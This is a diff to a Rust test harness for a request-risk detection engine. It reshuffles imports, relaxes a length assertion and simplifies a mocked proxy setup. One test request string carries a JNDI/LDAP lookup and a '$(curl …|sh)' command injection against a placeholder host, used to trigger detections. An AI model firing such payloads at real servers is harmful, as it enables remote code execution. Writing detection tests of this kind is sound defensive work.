@@ -6,25 +6,27 @@ use user_risk_filter::clock::Timestamp;
 use user_risk_filter::config;
 use user_risk_filter::decode::{ROUNDS, Views};
 use user_risk_filter::detect::category::Category;
-use user_risk_filter::detect::detection::{DETECTIONS, Detection, VALUE};
+use user_risk_filter::detect::detection::{Detection, VALUE};
+use user_risk_filter::detect::detections::DETECTIONS;
 use user_risk_filter::detect::matcher::{Evidence, Verifier};
 use user_risk_filter::detect::options::Options;
 use user_risk_filter::detect::rule_set::RuleSet;
 use user_risk_filter::detect::scan::Scan;
 use user_risk_filter::detect::verify;
 use user_risk_filter::detect::verify::subject::Subject;
-use user_risk_filter::engine::config::Config;
-use user_risk_filter::engine::effect::Effect;
 use user_risk_filter::engine::stream::{Mark, Part, Stream};
 use user_risk_filter::engine::{Engine, Input};
+use user_risk_filter::exchange::head::Head;
+use user_risk_filter::exchange::headers::Headers;
 use user_risk_filter::exchange::proxy::Known;
-use user_risk_filter::exchange::{Head, Headers};
 use user_risk_filter::notify::callout::Reply;
+use user_risk_filter::plugin::config::Config;
 use user_risk_filter::read::field::Field;
 use user_risk_filter::read::target::Target;
 use user_risk_filter::read::{self, Body};
 use user_risk_filter::secret::{Secret, Variable};
 use user_risk_filter::state::memory::Memory;
+use user_risk_filter::worker::effect::Effect;
 
 /// So much of a body is taken apart here, in bytes: less than by default, so that what lies beyond is met.
 const BODY_LIMIT: usize = 16 * 1024;
@@ -99,7 +101,8 @@ pub(crate) fn scan(data: &[u8]) {
         let found = detections(rules, data);
         assert!(found.len() <= DETECTIONS);
         for one in &found {
-            assert!(one.value.len() <= VALUE && one.target.len() <= 400 && one.target.is_ascii());
+            // A longer value is cut, and a hash of all of it follows.
+            assert!(one.value.len() <= VALUE + 8 && one.target.len() <= 400 && one.target.is_ascii());
             assert!(!one.target.bytes().any(|byte| byte.is_ascii_control()), "{}", one.target);
         }
         assert_eq!(found, detections(rules, data));
@@ -180,11 +183,7 @@ fn told(data: &[u8]) -> Vec<String> {
     let engine = Engine::new(config.unwrap_or_else(|mistake| panic!("{mistake}")).config, &cells, [1; 32]);
     let now = Timestamp::from_millis(1_767_323_045_678);
     let answer: Headers = [(&b"x-user-risk-event"[..], events)].into_iter().collect();
-    let proxy = Known::default()
-        .with(&["source", "address"], address)
-        .with(&["xds", "route_name"], route)
-        .with(&["xds", "cluster_name"], "app")
-        .answering(200, answer);
+    let proxy = Known::default().with_address(address).with_route(route).with_cluster("app").answering(200, answer);
     let mut effects = Vec::new();
     // Enough to open an incident, then what was made up.
     for data in [&b"GET /?a=${jndi:ldap://x.example/a}&b=$(curl+x.example|sh)"[..], rest] {
